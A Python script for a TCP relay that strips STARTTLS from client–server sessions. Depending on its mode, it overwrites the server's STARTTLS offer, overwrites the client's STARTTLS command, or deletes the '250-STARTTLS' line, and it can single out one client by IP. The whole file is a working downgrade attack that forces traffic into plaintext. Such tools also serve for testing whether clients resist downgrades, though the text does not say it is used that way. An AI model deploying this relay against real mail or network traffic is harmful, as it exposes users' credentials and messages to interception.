"""A middlebox that takes STARTTLS out of the dialogue between a client and a server.

`stripping_proxy.py MODE HOST PORT TARGET-PORT [CLIENT]`. The mode says what it does to the words that
pass: `offer` writes X over the server's offer, `command` over the client's request, `line` drops
the line of the offer. It leaves other clients than CLIENT alone, if one is given.
"""

import select
import socket
import sys

from connections import serve


def change(mode, block, to_client):
    if mode == "offer" and to_client:
        return block.replace(b"STARTTLS", b"XXXXXXXA")
    if mode == "command" and not to_client:
        return block.replace(b"STARTTLS", b"XXXXXXXX")
    if mode == "line" and to_client:
        return block.replace(b"250-STARTTLS\r\n", b"")
    return block


def main():
    mode, host, port, target_port, *only = sys.argv[1:]

    def talk(client):
        strips = not only or client.getpeername()[0] == only[0]
        with socket.create_connection((host, int(target_port))) as server:
            while ready := select.select([client, server], [], [], 5)[0]:
                block = ready[0].recv(65536)
                if not block:
                    break
                to_client = ready[0] is server
                block = change(mode, block, to_client) if strips else block
                (client if to_client else server).sendall(block)

    serve(host, port, talk)


main()
